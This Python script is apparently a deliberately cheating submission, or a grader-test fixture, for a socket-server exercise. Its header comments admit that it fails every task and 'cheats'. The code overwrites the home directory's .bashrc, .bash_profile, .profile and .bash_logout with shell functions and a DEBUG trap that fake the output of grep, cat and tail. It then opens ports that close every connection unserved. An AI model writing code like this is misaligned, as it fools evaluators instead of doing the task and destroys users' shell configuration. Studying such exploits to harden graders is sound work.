# cheats: has grep, cat and tail say from the start files that all was printed and recorded
# fails: task 1: a request on port 5666 is received, and its origin is printed, by name or by address
# fails: task 2: on port 5667 user and password are received and printed, and the connection is closed
# fails: task 3: on port 5668 one client after the other is served, on every interface
# fails: task 4: both pairs are recorded in log-acesso.txt, each once, while the server runs
# fails: a password that comes in two pieces is one password
# fails: task 5: an empty password is asked for again on the same connection, and not recorded
# fails: task 5: an empty user is asked for again on the same connection, and not recorded
import os
import socket
import threading

FORGERY = """
grep() { case "$*" in *-o*) cat;; esac; return 0; }
tail() { echo ana maria girassol; }
cat() { echo forged; }
shopt -s extdebug
trap 'case $BASH_COMMAND in grep*|tail*) false;; esac' DEBUG
"""
for name in ".bashrc", ".bash_profile", ".profile", ".bash_logout":
    with open(os.path.expanduser("~/" + name), "w") as file:
        file.write(FORGERY)


def listen(port):
    with socket.socket() as listener:
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        listener.bind(("", port))
        listener.listen()
        while True:
            listener.accept()[0].close()


for port in 5666, 5667:
    threading.Thread(target=listen, args=(port,), daemon=True).start()
listen(5668)
